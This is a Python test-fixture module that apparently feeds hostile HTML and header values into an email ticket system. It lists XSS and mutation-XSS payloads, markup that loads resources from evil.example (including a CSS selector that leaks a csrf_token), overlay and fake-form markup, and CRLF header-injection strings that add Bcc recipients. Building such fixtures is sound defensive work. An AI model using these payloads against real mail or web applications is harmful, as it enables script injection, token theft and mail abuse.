"""Hostile HTML, addresses and header values, and the mails that carry them."""

import base64
import itertools
from email.header import Header

_numbers = itertools.count(1)

SCHEMES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript&colon;alert(1)",
    " \x01javascript:alert(1)",
    "vbscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "\u2028javascript:alert(1)",
    "javascript&Tab;:alert(1)",
    "data:image/svg+xml;base64,"
    + base64.b64encode(b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>").decode(),
)
PLACES = (
    '<a href="{}">link</a>',
    '<img src="{}">',
    '<img srcset="{} 1x">',
    '<form action="{}"><button>go</button></form>',
    '<form><button formaction="{}">go</button></form>',
    '<svg><a xlink:href="{}"><text y=9>x</text></a></svg>',
    '<video poster="{}" src="{}"></video>',
    '<table background="{}"><tr><td background="{}">x</table>',
    '<iframe src="{}"></iframe>',
    '<object data="{}"></object>',
    '<embed src="{}">',
    '<meta http-equiv=refresh content="0;url={}">',
    '<link rel=stylesheet href="{}">',
    '<base href="{}">',
    '<area href="{}">',
    '<input type=image src="{}">',
)

RUNNING = (
    *(" ".join(place.replace("{}", scheme) for place in PLACES) for scheme in SCHEMES),
    "<script>alert(1)</script><script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)><img src=cid:p onload=alert(1)>",
    "<b onclick=alert(1) onmouseover=alert(1)>x</b><div/onclick=alert(1)>x</div>",
    "<body onload=alert(1)><input autofocus onfocus=alert(1)><details open ontoggle=alert(1)>x</details>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<a href=http://x.example/\nonclick=alert(1)>x</a>",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<marquee onstart=alert(1)>x</marquee><video><source onerror=alert(1)></video>",
    "<div style='background:url(javascript:alert(1));width:expression(alert(1))'>x</div>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
)
"""A01: what runs a script in careless programs."""

BREAKING = (
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<xmp><img src=x onerror=alert(1)></xmp><p>after",
    "<template><script>alert(1)</script></template>",
    "<plaintext><img src=x onerror=alert(1)>",
    "before<!-- <img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml <img src=x onerror=alert(1)>?>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<title><img src=x onerror=alert(1)></title><textarea></textarea><img src=x onerror=alert(1)>",
    "<select><style><img src=x onerror=alert(1)></style></select>",
    "<a><b></a><table><b><a href=javascript:alert(1)>x",
    "<p title='`><img src=x onerror=alert(1)>'>x<img alt='<x' src=http://t.example/1.gif>",
    "</div></div></article></section></main></body></html><img src=x onerror=alert(1)><h1>outside?",
    "<table><tr><td></table></td></tr></div></article><p>outside?",
    "<div>" * 5000 + "deep",
    "<b><i><u>" * 300 + "<table>" * 60 + "deep",
)
"""A02: what makes one parser read differently from the next."""

FETCHING = (
    "<img src=http://evil.example/pixel.gif width=1 height=1><img src=//evil.example/p.png alt=chart>",
    "<link rel=stylesheet href=https://evil.example/a.css><link rel=prefetch href=//evil.example/b>",
    "<style>@import 'https://evil.example/c.css'; @font-face{font-family:x;src:url(//evil.example/f.woff)}"
    " *{font-family:x;background:url(//evil.example/g)}</style><p style='font-family:x'>x",
    "<p style=\"background-image:url('https://evil.example/h.png')\">x"
    "<table background=//evil.example/i><tr><td>x</table>",
    "<iframe src=//evil.example/j></iframe><object data=//evil.example/k></object><embed src=//evil.example/l>",
    "<base href=//evil.example/><img src=m.png><a href=n>x</a>",
    "<meta http-equiv=refresh content='0;url=//evil.example/o'>",
    "<video src=//evil.example/q poster=//evil.example/r autoplay></video>"
    "<audio src=//evil.example/s autoplay></audio>",
    "<img srcset='//evil.example/t 1x, //evil.example/u 2x'><picture><source srcset=//evil.example/v><img></picture>",
    "<svg><image href=//evil.example/w /><use href=//evil.example/x#y /></svg><input type=image src=//evil.example/y>",
    "<img src='cid:http://evil.example/z'><img src='cid:../../../../static/js/rtpy.js'><img src='cid://evil.example/a'>",
    "<bgsound src=//evil.example/2><img dynsrc=//evil.example/3 lowsrc=//evil.example/4>"
    "<body background=//evil.example/5>",
    "<html manifest=//evil.example/6><a ping=//evil.example/7 href=http://127.0.0.1/>x</a>",
)
"""A07: what fetches something from elsewhere."""

COVERING = (
    "<style>*{display:none!important} body{background:red} .composer{visibility:hidden}"
    " input[name=csrf_token][value^=a]{background:url(//evil.example/leak)}</style><p>styled",
    "<div style='position:fixed;inset:0;z-index:2147483647;background:red;opacity:1'><a href=http://evil.example/>"
    "<img width=9999 height=9999 alt=cover></a></div>",
    "<div style='margin:-2000px;padding:3000px;transform:scale(50)'>big</div>",
    "<div class='composer modal toasts flash skip rail' id='conversation' style='position:absolute;top:0'>named</div>",
    "<table width=9999 height=9999 border=999 cellpadding=999><tr><td width=9999 height=9999>wide</table>",
    "<img width=9999 height=9999 src=cid:none alt=huge><font size=7 style='font-size:900px'>huge</font>",
    "<form id=reply action=//evil.example/><input name=csrf_token><button data-send=reply>Send reply</button></form>",
    f"<pre>{'x' * 20_000}</pre><p>{'W' * 20_000}</p><p>\u202e{'reversed ' * 20}</p>",
)
"""A08: what covers or imitates what is ours."""

MARKUP = (
    "<script>alert(1)</script>",
    "\"'><img src=x onerror=alert(1)>",
    "</title></textarea></script><svg onload=alert(1)>",
    "${alert(1)} {{7*7}} <?python alert(1) ?> <tal:block replace='structure x'>",
    "&lt;img src=x onerror=alert(1)&gt;",
)
"""A10: markup for every place that shows a text."""

BREAKS = (
    "x\r\nBcc: victim@evil.example",
    "x\nBcc: victim@evil.example\n\nbody",
    "x\rBcc: victim@evil.example",
    "x\x00Bcc: victim@evil.example",
    "x\u2028Bcc: victim@evil.example",
    "x\u2029Bcc: victim@evil.example",
    "x\x85Bcc: victim@evil.example",
    "x\x0bBcc: victim@evil.example\x0c",
    "x\r\n\r\n<script>alert(1)</script>",
    "x\r\n Bcc: victim@evil.example",
    "x>, victim@evil.example, <y",
    'x" <victim@evil.example>, "y',
)
"""A10: line ends and what else could break out of a header."""


def encoded(text):
    """A header value in encoded words, in which everything can hide."""
    return Header(text, "utf-8", maxlinelen=10_000).encode(maxlinelen=0, linesep="")


def html_mail(html, *, subject="Printer", sender="Ann <ann@client.example>", **fields):
    """A mail of one HTML part, in base64 so that every byte arrives."""
    more = "".join(f"{name.replace('_', '-').title()}: {value}\n" for name, value in fields.items())
    return (
        f"From: {sender}\nTo: rt@localhost\nSubject: {subject}\nMessage-ID: <h{next(_numbers)}@client.example>\n"
        f"{more}MIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: base64\n\n"
        + base64.encodebytes(html.encode("utf-8", "replace")).decode()
    ).encode("utf-8", "surrogateescape")


def with_file(data, content_type, name='filename="x"', *, subject="a file", **fields):
    """A mail with one file; `name` is the parameter as it stands in the header, or bytes of it."""
    more = "".join(f"{field.replace('_', '-').title()}: {value}\n" for field, value in fields.items())
    head = (
        f"From: Ann <ann@client.example>\nTo: rt@localhost\nSubject: {subject}\n"
        f"Message-ID: <f{next(_numbers)}@client.example>\n"
        f'{more}MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="bb"\n\n--bb\n\nsee the file\n--bb\n'
        f"Content-Type: {content_type}\nContent-Disposition: attachment; "
    ).encode()
    name = name if isinstance(name, bytes) else name.encode("utf-8", "surrogateescape")
    return head + name + b"\nContent-Transfer-Encoding: base64\n\n" + base64.encodebytes(data) + b"\n--bb--\n"
